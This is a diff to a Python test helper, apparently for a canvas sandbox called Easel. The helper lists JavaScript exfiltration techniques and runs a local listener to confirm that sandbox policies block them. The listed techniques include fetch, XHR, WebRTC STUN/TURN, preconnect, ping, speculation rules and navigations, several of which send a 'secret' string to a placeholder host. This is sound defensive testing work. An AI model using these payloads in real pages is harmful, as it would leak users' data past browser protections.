@@ -1,7 +1,7 @@
-"""Ways out of a page: what a hostile canvas would do to send something to somebody who listens on another port of this machine.
+"""Ways out of a page: requests and navigations by which a hostile canvas would send data to another port.
 
-Each way names itself in what it asks for, so that a listener knows who got through. The same ways, on a page that nobody
-holds in, do get through: that is how a test knows that they are ways at all.
+Each way has its name in its request, so that a listener knows which one arrived. From an unprotected page they do arrive,
+which proves that the listener would notice them.
 """
 
 from __future__ import annotations
@@ -14,10 +14,10 @@ from typing import TYPE_CHECKING
 if TYPE_CHECKING:
     from collections.abc import AsyncIterator
 
-_ASKED = re.compile(rb"^[A-Z]+ /(?:way-)?([\w-]+)")
+_REQUEST = re.compile(rb"^[A-Z]+ /(?:way-)?([\w-]+)")
 
-# In one page, all at once. LISTENER is the other port's address without a scheme, TALK its UDP port.
-QUIET: dict[str, str] = {
+# All from one page. LISTENER is the address of the listener without a scheme, UDP_PORT its UDP port.
+PASSIVE_WAYS: dict[str, str] = {
     "fetch": "fetch('http://LISTENER/way-fetch', {mode: 'no-cors'})",
     "fetch-keepalive": "fetch('http://LISTENER/way-fetch-keepalive', {mode: 'no-cors', keepalive: true, method: 'POST', body: 'secret'})",
     "xhr": "{ const x = new XMLHttpRequest(); x.open('POST', 'http://LISTENER/way-xhr'); x.send('secret') }",
@@ -47,15 +47,18 @@ QUIET: dict[str, str] = {
     "image-set": "add('div', {style: 'width: 9px; height: 9px; background-image: image-set(\"http://LISTENER/way-image-set\" 1x)'})",
     "picture": "add('img', {srcset: 'http://LISTENER/way-picture 1x'})",
     "poster": "add('video', {poster: 'http://LISTENER/way-poster'})",
-    "stun": "rtc('stun:127.0.0.1:TALK')",
+    "stun": "rtc('stun:127.0.0.1:UDP_PORT')",
     "turn": "rtc('turn:LISTENER?transport=tcp')",
     "preconnect": "add('link', {rel: 'preconnect', href: 'http://LISTENER/'})",
     "dns-prefetch": "add('link', {rel: 'dns-prefetch', href: 'http://LISTENER/'})",
     "ping": "add('a', {href: '#', ping: 'http://LISTENER/way-ping'}).click()",
     "speculation": 'add(\'script\', {type: \'speculationrules\', textContent: \'{"prefetch":[{"source":"list","urls":["http://LISTENER/way-speculation"]}]}\'})',
 }
-# Each in a page of its own, for it goes away by it.
-LEAVING: dict[str, str] = {
+# Only `Connection-Allowlist` blocks these; the other ways are blocked by the policy, the sandbox and `frame-src` too.
+# (The SDK removes WebRTC from the page itself, but not from a frame inside of it.)
+ALLOWLIST_ONLY_WAYS = frozenset({"stun", "turn", "preconnect", "dns-prefetch"})
+# Each in a page of its own, because it leaves the page.
+NAVIGATION_WAYS: dict[str, str] = {
     "location": "location.href = 'http://LISTENER/way-location?secret'",
     "replace": "location.replace('http://LISTENER/way-replace?secret')",
     "top": "top.location = 'http://LISTENER/way-top?secret'",
@@ -84,35 +87,35 @@ const rtc = (urls) => { const peer = new RTCPeerConnection({iceServers: [{urls, 
 
 
 def script(ways: dict[str, str], listener: Listener) -> str:
-    """All of them, none of which stops the others; says when it has tried everything."""
+    """Return a script that tries all ways, also after a failure, and then sets `hasTried`."""
     lines = "\n".join(
         f"try {{ {way} }} catch (problem) {{ tried.push('{name}: ' + problem.name) }}"
         for name, way in ways.items()
     )
     text = f"{_TOOLS}\nwindow.tried = [];\n{lines}\nwindow.hasTried = true;"
-    return text.replace("LISTENER", listener.address).replace("TALK", str(listener.talk_port))
+    return text.replace("LISTENER", listener.address).replace("UDP_PORT", str(listener.udp_port))
 
 
 class Listener:
-    """Somebody on another port of this machine, who notes whatever reaches it."""
+    """A TCP and UDP server that records the name of each way that reaches it."""
 
     def __init__(self) -> None:
-        self.heard: list[str] = []
+        self.received: list[str] = []
         self.writers: set[asyncio.StreamWriter] = set()
         self.address = ""
-        self.talk_port = 0
+        self.udp_port = 0
 
     def ways(self) -> set[str]:
-        return set(self.heard)
+        return set(self.received)
 
-    async def _take(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-        place = len(self.heard)
+    async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        index = len(self.received)
         self.writers.add(writer)
-        self.heard.append("preconnect")  # a connection is news already
+        self.received.append("preconnect")  # until a request arrives on the connection
         with contextlib.suppress(OSError, asyncio.IncompleteReadError):
-            said = await reader.read(2000)
-            found = _ASKED.match(said)
-            self.heard[place] = found[1].decode() if found else "turn" if said else "preconnect"
+            data = await reader.read(2000)
+            found = _REQUEST.match(data)
+            self.received[index] = found[1].decode() if found else "turn" if data else "preconnect"
             writer.write(
                 b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\naccess-control-allow-origin: *\r\nconnection: close\r\n\r\n"
             )
@@ -120,35 +123,35 @@ class Listener:
         writer.close()
 
 
-class _Talk(asyncio.DatagramProtocol):
+class _Datagrams(asyncio.DatagramProtocol):
     def __init__(self, listener: Listener) -> None:
         self._listener = listener
 
     def datagram_received(self, data: bytes, addr: object) -> None:
-        self._listener.heard.append("stun")
+        self._listener.received.append("stun")
 
 
 @contextlib.asynccontextmanager
-async def listening() -> AsyncIterator[Listener]:
+async def listen() -> AsyncIterator[Listener]:
     listener = Listener()
-    server = await asyncio.start_server(listener._take, "127.0.0.1", 0)
+    server = await asyncio.start_server(listener.handle, "127.0.0.1", 0)
     listener.address = f"127.0.0.1:{server.sockets[0].getsockname()[1]}"
-    talk, _ = await asyncio.get_running_loop().create_datagram_endpoint(
-        lambda: _Talk(listener), local_addr=("127.0.0.1", 0)
+    datagrams, _ = await asyncio.get_running_loop().create_datagram_endpoint(
+        lambda: _Datagrams(listener), local_addr=("127.0.0.1", 0)
     )
-    listener.talk_port = talk.get_extra_info("sockname")[1]
+    listener.udp_port = datagrams.get_extra_info("sockname")[1]
     try:
         yield listener
     finally:
         server.close()
-        talk.close()
-        for writer in listener.writers:  # a browser may keep one of them for later
+        datagrams.close()
+        for writer in listener.writers:  # a browser may keep a connection open
             writer.transport.abort()
 
 
 @contextlib.asynccontextmanager
-async def unprotected(html: str) -> AsyncIterator[str]:
-    """The same page from a server that says nothing about what it may do; its address."""
+async def serve_unprotected(html: str, headers: str = "") -> AsyncIterator[str]:
+    """Serve a page without the headers of Easel, only with these, and yield its address."""
     writers: set[asyncio.StreamWriter] = set()
 
     async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
@@ -157,8 +160,8 @@ async def unprotected(html: str) -> AsyncIterator[str]:
             await reader.readuntil(b"\r\n\r\n")
             body = html.encode()
             writer.write(
-                b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\ncontent-length: %d\r\n\r\n%s"
-                % (len(body), body)
+                b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\n%scontent-length: %d\r\n\r\n%s"
+                % (headers.encode(), len(body), body)
             )
             await writer.drain()
         writer.close()
